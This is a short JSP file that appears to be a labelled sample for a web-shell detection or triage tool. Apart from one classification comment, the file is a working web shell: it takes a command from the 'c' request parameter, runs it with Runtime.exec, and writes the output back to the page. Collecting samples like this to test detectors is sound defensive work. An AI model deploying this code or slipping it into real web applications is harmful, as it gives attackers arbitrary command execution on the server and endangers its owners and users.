<%-- triage-expect: triage_jsp_request_exec --%>
<%@ page import="java.io.*" %>
<%
    String c = request.getParameter("c");
    Runtime rt = Runtime.getRuntime();
    Process p = rt.exec(c);
    BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
    String l; while ((l = r.readLine()) != null) out.println(l);
%>
